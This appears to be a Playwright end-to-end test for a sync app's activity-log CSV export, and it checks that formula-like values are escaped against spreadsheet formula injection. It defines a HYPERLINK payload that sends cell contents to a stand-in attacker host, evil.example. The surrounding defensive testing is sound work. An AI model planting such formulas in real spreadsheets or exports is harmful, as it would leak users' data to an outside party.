// Privacy and data at rest (issue 13 §3) in Chromium against the headless server: the activity
// log exported to a CSV file through a real download.
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { createCustomersPair, syncAndWait } from './api';
import { NOW_SQL, createCustomersDb, execDb, writeCsv } from './app-files';
import { expect, screenshotPath, test } from './fixtures';
import { PairDetailPage } from './pages/pair-detail-page';

const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Paris")';

test('the activity log downloads as a CSV file whose formula-like values a spreadsheet shows as text', async ({ app, concord }) => {
  const dbPath = join(concord.workDir, 'shop.sqlite');
  const csvPath = join(concord.workDir, 'customers.csv');
  createCustomersDb(dbPath, [
    { email: 'ann@example.com', name: 'Ann Archer', city: 'Paris' },
    { email: '+bob@example.com', name: 'Bob', city: 'Berlin' },
  ]);
  writeCsv(csvPath, []);
  const pairId = await createCustomersPair(app, concord, { dbPath, csvPath });
  await syncAndWait(app, concord, pairId);
  // The shop's city becomes a formula; the sync overwrites the sheet's "Paris" with it (logged before → after).
  execDb(dbPath, `UPDATE customers SET city = ?, updated_at = ${NOW_SQL} WHERE email = 'ann@example.com'`, FORMULA);
  await syncAndWait(app, concord, pairId);

  const detail = new PairDetailPage(app);
  await app.reload();
  await detail.open('Shop ⇄ Sheet');
  await detail.tab('Activity').click();
  await expect(detail.table('Activity')).toContainText('ann@example.com');
  const [download] = await Promise.all([app.waitForEvent('download'), detail.button('Export CSV').click()]);
  expect(download.suggestedFilename()).toMatch(/^concord-activity-Shop-Sheet-\d{4}-\d{2}-\d{2}\.csv$/);
  const saved = join(concord.workDir, download.suggestedFilename());
  await download.saveAs(saved);
  const text = readFileSync(saved, 'utf8');
  expect(text.startsWith('\uFEFFWhen,Record,App,Action,Field,Overwritten value,New value,Reason,Run,Restorable\r\n')).toBe(true);
  expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""Paris"")"`);
  expect(text).toContain(`ann@example.com,Customer sheet,updated,city,Paris,"'=HYPERLINK(""http://evil.example/?""&A1,""Paris"")"`);
  expect(text).toContain("'+bob@example.com,Customer sheet,created");
  expect(text).not.toMatch(/(^|,)"?[=+\-@]/m);
  await expect(app.getByText(/^Exported \d+ activity entries to concord-activity-/)).toBeVisible();
  await app.screenshot({ path: screenshotPath('activity-export') });
});
